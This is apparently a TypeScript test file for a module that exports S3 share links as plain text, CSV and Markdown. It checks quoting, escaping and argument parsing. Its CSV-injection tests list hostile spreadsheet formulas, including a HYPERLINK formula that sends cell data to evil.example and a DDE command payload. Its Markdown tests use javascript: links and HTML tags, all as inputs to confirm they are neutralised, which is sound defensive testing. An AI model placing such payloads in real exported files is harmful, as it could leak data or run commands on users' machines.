import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { csvField, formatShare, isFolderMarker, markdownText, parseShareFolderArgs, shareLanguage, type SharedLink } from '../../src/core/shareFormat';

const expiresAt = new Date('2024-05-01T13:34:56Z');
const links: SharedLink[] = [
  { key: 'docs/readme.md', size: 12, url: 'https://b.s3.amazonaws.com/docs/readme.md?X-Amz-Signature=aa', expiresAt },
  { key: 'odd/a,b "c"\nd.txt', size: 0, url: 'https://b.s3.amazonaws.com/odd/a%2Cb?X-Amz-Signature=bb', expiresAt },
  { key: 'odd/pipe|[x]*y*_z_`<b>`.txt', size: 3, url: 'https://b.s3.amazonaws.com/odd/pipe?X-Amz-Signature=cc', expiresAt },
];

/** A minimal RFC 4180 reader, to prove the CSV round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  assert.equal(field, '', 'CSV ends with a line break');
  return rows;
}

describe('core shareFormat', () => {
  it('plain: one URL per line', () => {
    assert.equal(formatShare(links, 'plain', 's3://b/'), links.map((l) => l.url + '\n').join(''));
    assert.equal(formatShare([], 'plain', 's3://b/'), '');
  });

  it('csv: a header and one properly quoted row per link, round-tripping every field', () => {
    const text = formatShare(links, 'csv', 's3://b/');
    const rows = parseCsv(text);
    assert.deepEqual(rows[0], ['key', 'size', 'url', 'expires']);
    assert.equal(rows.length, links.length + 1);
    links.forEach((link, i) => {
      assert.deepEqual(rows[i + 1], [link.key, String(link.size), link.url, '2024-05-01T13:34:56.000Z']);
    });
    assert.ok(text.includes('"odd/a,b ""c""\nd.txt"'));
  });

  it('csvField quotes only what needs it', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField(42), '42');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('line\r\nbreak'), '"line\r\nbreak"');
    assert.equal(csvField(' edge'), '" edge"');
    assert.equal(csvField(''), '');
  });

  describe('CSV injection (OWASP; issue 12 item 3)', () => {
    const hostile = [
      '=1+1',
      '+SUM(A1:A2)',
      '@SUM(1)',
      '-2+3',
      '=HYPERLINK("http://evil.example/?"&C3,"Open")',
      '\t=1+1',
      '\r=1+1',
      ' =1+1',
      '\n=1+1',
      "=cmd|' /C calc'!A0",
    ];
    const rows = hostile.map((key, i) => ({ key, size: i, url: `https://b.s3.amazonaws.com/${encodeURIComponent(key)}?X-Amz-Signature=${i}`, expiresAt }));

    it('neutralises every field a spreadsheet would run, quoted with a leading single quote', () => {
      const parsed = parseCsv(formatShare(rows, 'csv', 's3://b/'));
      rows.forEach((link, i) => {
        const [key, size, url] = parsed[i + 1];
        assert.equal(key, `'${link.key}`, JSON.stringify(link.key));
        assert.equal(url, link.url, 'the URL stays exact and usable');
        assert.equal(size, String(link.size));
      });
    });

    it('never lets a field start with a formula character', () => {
      for (const key of hostile) {
        const field = csvField(key);
        assert.ok(field.startsWith(`"'`), field);
      }
    });

    it('leaves URLs, dates, sizes and ordinary keys untouched', () => {
      const url = 'https://b.s3.amazonaws.com/k?X-Amz-Credential=AKID%2F20250101&X-Amz-Signature=ab';
      assert.equal(csvField(url), url);
      assert.equal(csvField('2024-05-01T13:34:56.000Z'), '2024-05-01T13:34:56.000Z');
      assert.equal(csvField(0), '0');
      assert.equal(csvField('a-b=c@d+e.txt'), 'a-b=c@d+e.txt');
    });
  });

  it('markdown: a key cannot break the table, the link or the row (issue 12 item 3)', () => {
    const keys = ['a|b', '[x](javascript:alert(1))', 'tick`code`', 'line\nbreak', 'cr\rlf\r\n', '&lt;b&gt;', '~~gone~~', '<img src=x>', '**bold**', '$x$', 'a\\|b'];
    const hostileLinks = keys.map((key, i) => ({ key, size: i, url: `https://b.s3.amazonaws.com/k${i}?X-Amz-Signature=${i}`, expiresAt }));
    const text = formatShare(hostileLinks, 'markdown', 's3://b/');
    const rows = text.split('\n').filter((line) => line.startsWith('| ['));
    assert.equal(rows.length, keys.length, 'one line per key');
    rows.forEach((row, i) => {
      // Cells are split by pipes that are not backslash-escaped.
      const cells = row.split(/(?<!\\)(?:\\\\)*\|/);
      assert.equal(cells.length, 5, row);
      assert.ok(row.includes(`](<${hostileLinks[i].url}>) | ${i} |`), row);
      // Link text: no unescaped bracket, backtick, &, ~ or < left.
      const label = row.slice(3, row.indexOf(`](<${hostileLinks[i].url}>)`));
      assert.doesNotMatch(label.replace(/\\./g, ''), /[[\]`&~<>*_$|]/, label);
    });
  });

  it('markdown: a key cannot break the table, the link or the row (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'ab|[]()`\\*_<>&~#!\n\r\t $'), maxLength: 30 }), (key) => {
        const url = 'https://b.s3.amazonaws.com/k?X-Amz-Signature=1';
        const text = formatShare([{ key, size: 1, url, expiresAt }], 'markdown', 's3://b/');
        const row = text.split('\n')[4];
        assert.equal(text.split('\n').length, 6, 'title, blank, header, rule, row, final newline');
        assert.equal(row.split(/(?<!\\)(?:\\\\)*\|/).length, 5);
        assert.ok(row.endsWith(`](<${url}>) | 1 | 2024-05-01T13:34:56.000Z |`), row);
      }),
    );
  });

  it('markdown: a titled table, keys escaped, URLs as link destinations', () => {
    const text = formatShare(links, 'markdown', 's3://b/odd_prefix/');
    const lines = text.split('\n');
    assert.equal(lines[0], '# s3://b/odd\\_prefix/');
    assert.equal(lines[2], '| Key | Size (bytes) | Expires (UTC) |');
    const rows = lines.filter((line) => line.startsWith('| ['));
    assert.equal(rows.length, links.length);
    assert.equal(rows[0], `| [docs/readme.md](<${links[0].url}>) | 12 | 2024-05-01T13:34:56.000Z |`);
    // The pipe cannot end the cell, brackets cannot end the link text, newlines cannot end the row.
    assert.ok(rows[2].startsWith('| [odd/pipe\\|\\[x\\]\\*y\\*\\_z\\_\\`\\<b\\>\\`.txt]('));
    assert.ok(rows[1].includes('a,b "c" d.txt'));
  });

  it('markdownText escapes what Markdown would interpret', () => {
    assert.equal(markdownText('a|b'), 'a\\|b');
    assert.equal(markdownText('[x](y)'), '\\[x\\](y)');
    assert.equal(markdownText('back\\slash'), 'back\\\\slash');
  });

  it('languages and folder markers', () => {
    assert.equal(shareLanguage('plain'), 'plaintext');
    assert.equal(shareLanguage('markdown'), 'markdown');
    assert.equal(shareLanguage('csv'), 'csv');
    assert.equal(isFolderMarker('photos/', 0), true);
    assert.equal(isFolderMarker('photos/', 5), false);
    assert.equal(isFolderMarker('photos', 0), false);
  });

  it('parses the automation argument', () => {
    assert.deepEqual(parseShareFolderArgs({ bucket: 'big-bucket' }), { ok: true, args: { bucket: 'big-bucket', prefix: '', format: 'plain' } });
    assert.deepEqual(parseShareFolderArgs({ bucket: 'big-bucket', prefix: 'logs/', expiresIn: '2h', format: 'csv' }), {
      ok: true,
      args: { bucket: 'big-bucket', prefix: 'logs/', expiresIn: 7200, format: 'csv' },
    });
    for (const bad of [undefined, null, 'big-bucket', [], { bucket: 1 }, { bucket: 'Bad_Bucket!' }, { bucket: 'b-ok', prefix: 3 },
      { bucket: 'b-ok', prefix: 'p'.repeat(1025) }, { bucket: 'b-ok', format: 'xml' }, { bucket: 'b-ok', expiresIn: '8d' }]) {
      const parsed = parseShareFolderArgs(bad);
      assert.equal(parsed.ok, false, JSON.stringify(bad));
    }
  });

  it('formats 10,000 links, one line or row per link', () => {
    const many: SharedLink[] = Array.from({ length: 10_000 }, (_, i) => ({ key: `k/${i}.txt`, size: i, url: `https://x/${i}?s=1`, expiresAt }));
    assert.equal(formatShare(many, 'plain', 's3://x/').trimEnd().split('\n').length, 10_000);
    assert.ok(formatShare(many, 'csv', 's3://x/').includes('https://x/9999?s=1'));
    assert.ok(formatShare(many, 'markdown', 's3://x/').includes('k/9999.txt'));
  });
});
